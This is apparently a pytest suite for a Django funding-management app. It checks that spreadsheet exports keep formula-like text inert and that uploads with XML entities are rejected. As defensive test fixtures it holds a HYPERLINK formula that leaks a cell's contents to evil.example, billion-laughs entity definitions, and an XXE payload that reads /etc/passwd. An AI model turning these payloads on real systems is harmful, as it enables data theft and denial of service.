"""Spreadsheets stplan writes keep typed text as text; uploaded ones are read with limits."""

import zipfile
from io import BytesIO

import pytest
from defusedxml import EntitiesForbidden
from django.urls import reverse
from openpyxl import load_workbook

from stplan.accounts.models import Unit
from stplan.applications import services as application_services
from stplan.applications.models import Application
from stplan.funding import services as funding_services
from stplan.review import expert_io
from stplan.review.models import Expert
from stplan.spreadsheets import MAX_ROWS
from tests.world import (
    ExpertFactory,
    OfficerFactory,
    RecommenderFactory,
    UnitAdminFactory,
    open_guide,
    scored_round,
    submitted_25,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _cells(content: bytes, row: int) -> list[tuple]:
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    return [(cell.value, cell.data_type) for cell in sheet[row]]


def test_publicity_xlsx_keeps_formula_like_names_and_titles_as_typed_text(client):
    current, (first, second), staff = scored_round(open_guide(), [90, 80])
    Application.objects.filter(pk=first.pk).update(title="+1+1")
    Unit.objects.filter(pk=first.lead_unit_id).update(name=HYPERLINK)
    Application.objects.filter(pk=second.pk).update(title="@SUM(A1)")
    Unit.objects.filter(pk=second.lead_unit_id).update(name="-2")
    plan = funding_services.create_plan(actor=staff, review_round=current, name="方案", total_budget=100_000)
    funding_services.publicize(plan=plan, actor=staff, days=5)
    response = client.get(reverse("funding:publicity", args=[plan.pk]), {"format": "xlsx"})
    assert response.status_code == 200
    rows = sorted([_cells(response.content, 2), _cells(response.content, 3)])
    first.refresh_from_db()
    second.refresh_from_db()
    assert rows == sorted(
        [
            [(first.number, "s"), (25, "n"), ("+1+1", "s"), (HYPERLINK, "s"), (50_000, "n")],
            [(second.number, "s"), (25, "n"), ("@SUM(A1)", "s"), ("-2", "s"), (50_000, "n")],
        ]
    )


def test_desk_export_keeps_formula_like_text_as_typed_text(client):
    application = submitted_25(guide=open_guide())
    application_services.transition(
        application=application, action="unit_approve", actor=UnitAdminFactory(unit=application.lead_unit)
    )
    application_services.transition(
        application=application, action="recommend", actor=RecommenderFactory(unit=application.recommender)
    )
    Application.objects.filter(pk=application.pk).update(title="@SUM(A1)")
    Unit.objects.filter(pk=application.lead_unit_id).update(name=HYPERLINK, county="\t=1+1")
    client.force_login(OfficerFactory())
    response = client.get(reverse("applications:desk_export"))
    assert response.status_code == 200
    row = _cells(response.content, 2)
    assert (row[3], row[4], row[6]) == (("@SUM(A1)", "s"), (HYPERLINK, "s"), ("\t=1+1", "s"))
    assert row[1] == (25, "n")


def test_expert_export_keeps_formula_like_text_as_typed_text(client):
    ExpertFactory(unit_name=HYPERLINK, title="+1+1", keywords="@SUM(A1)", profile="-2", load_cap=8)
    client.force_login(OfficerFactory())
    response = client.get(reverse("review:experts"), {"format": "xlsx"})
    assert response.status_code == 200
    row = _cells(response.content, 3)
    assert (row[4], row[7], row[10], row[11], row[13]) == (
        (HYPERLINK, "s"),
        ("+1+1", "s"),
        ("@SUM(A1)", "s"),
        ("-2", "s"),
        (8, "n"),
    )


def test_expert_export_with_formula_like_text_round_trips_through_import():
    from stplan.review.defaults import load_review_defaults

    load_review_defaults(guide=open_guide())
    expert = ExpertFactory(unit_name=HYPERLINK, keywords="=1+1")
    result = expert_io.import_experts(actor=OfficerFactory(), content=expert_io.export(Expert.objects.all()))
    expert.refresh_from_db()
    assert ((result.created, result.updated), expert.unit_name, expert.keywords) == (
        (0, 1),
        HYPERLINK,
        "=1+1",
    )


# Hostile uploads, built here by hand: the smallest package openpyxl reads.

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="专家" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)
FILE_ENTITY = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _sheet_xml(cell: str, prolog: str = "") -> str:
    """Row 3 (the first data row) with one inline-string cell holding `cell`."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f'<row r="3"><c r="A3" t="inlineStr"><is><t>{cell}</t></is></c>'
        '<c r="B3" t="s"><v>0</v></c></row></sheetData></worksheet>'
    )


def _strings_xml(text: str = "张三", prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        f"<si><t>{text}</t></si></sst>"
    )


def _package(sheet=None, strings=None) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet or _sheet_xml("zj1"))
        archive.writestr("xl/sharedStrings.xml", strings or _strings_xml())
    return buffer.getvalue()


def _upload(client, content: bytes, name: str = "experts.xlsx") -> str:
    client.force_login(OfficerFactory())
    response = client.post(reverse("review:experts"), {"file": _named(content, name)}, follow=True)
    assert response.status_code == 200
    assert response.redirect_chain == [(reverse("review:experts"), 302)]
    (message,) = response.context["messages"]
    return str(message)


def _named(content: bytes, name: str):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


ENTITIES_REFUSED = "文件含有 XML 实体或文档类型声明（DOCTYPE/ENTITY），出于安全原因不予读取：请在 Excel 中另存为 .xlsx 后重新上传。"
NOT_XLSX = "无法读取文件：请上传按模板填写的 Excel（.xlsx）文件。"


def test_handmade_package_is_read_like_an_excel_file():
    """The hostile files below differ from this one only in what they are said to contain."""
    sheet = load_workbook(BytesIO(_package()), read_only=True).worksheets[0]
    assert list(sheet.iter_rows(min_row=3, values_only=True)) == [("zj1", "张三")]


@pytest.mark.parametrize(
    "content",
    [
        _package(sheet=_sheet_xml("&lol3;", LAUGHS)),
        _package(strings=_strings_xml("&lol3;", LAUGHS)),
        _package(sheet=_sheet_xml("&xxe;", FILE_ENTITY)),
        _package(strings=_strings_xml("&xxe;", FILE_ENTITY)),
        _package(sheet=_sheet_xml("zj1", "<!DOCTYPE worksheet>")),
    ],
    ids=["laughs-in-sheet", "laughs-in-strings", "file-in-sheet", "file-in-strings", "bare-doctype"],
)
def test_import_refuses_entity_and_doctype_declarations(client, content):
    assert _upload(client, content) == ENTITIES_REFUSED
    assert Expert.objects.count() == 0


def test_entities_hidden_from_a_byte_search_are_refused_by_defusedxml(client):
    hidden = ('<?xml version="1.0" encoding="UTF-16"?>' + _sheet_xml("&lol3;", LAUGHS)[38:]).encode("utf-16")
    content = _package(sheet=hidden)
    with pytest.raises(ValueError) as refused:
        list(load_workbook(BytesIO(content), read_only=True).worksheets[0].iter_rows())
    assert type(refused.value.__cause__) is EntitiesForbidden
    assert _upload(client, content) == ENTITIES_REFUSED
    assert Expert.objects.count() == 0


@pytest.mark.parametrize(
    "content",
    [
        _package(sheet=_sheet_xml("&undefined;")),
        _package(strings=_strings_xml("&undefined;")),
        _package(sheet=_sheet_xml("<unclosed>")),
        b"PK\x03\x04" + b"\x00garbage" * 50,
        b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
        b"\xff" * 1000,
    ],
    ids=[
        "undefined-entity-in-sheet",
        "undefined-entity-in-strings",
        "broken-xml",
        "zip-garbage",
        "pdf",
        "noise",
    ],
)
def test_import_answers_a_file_that_is_no_xlsx_with_a_message(client, content):
    assert _upload(client, content) == NOT_XLSX
    assert Expert.objects.count() == 0


def test_import_answers_an_empty_file_with_a_message(client):
    assert _upload(client, b"", "empty.xlsx") == "上传的文件是空文件。"
    assert Expert.objects.count() == 0


def _template_with(rows) -> bytes:
    book = load_workbook(BytesIO(expert_io.template()))
    sheet = book["专家"]
    for row in rows:
        sheet.append(row)
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_import_refuses_more_rows_than_the_limit_before_checking_them(client):
    content = _template_with([f"zj{n}", "张三"] for n in range(MAX_ROWS + 1))
    assert _upload(client, content) == f"文件数据超过{MAX_ROWS}行，请分成多个文件导入。"
    assert Expert.objects.count() == 0


def test_import_lists_the_first_fifty_bad_rows_and_counts_the_rest(client):
    content = _template_with([f"zj{n}"] for n in range(60))
    message = _upload(client, content)
    lines = message.split("\n")
    assert (len(lines), lines[0], lines[1], lines[50], lines[51]) == (
        52,
        "导入未完成，请修改后重新上传：",
        "第3行：缺少“姓名”；缺少“邮箱”；缺少“工作单位”",
        "第52行：缺少“姓名”；缺少“邮箱”；缺少“工作单位”",
        "……另有10处错误未列出",
    )
    assert Expert.objects.count() == 0
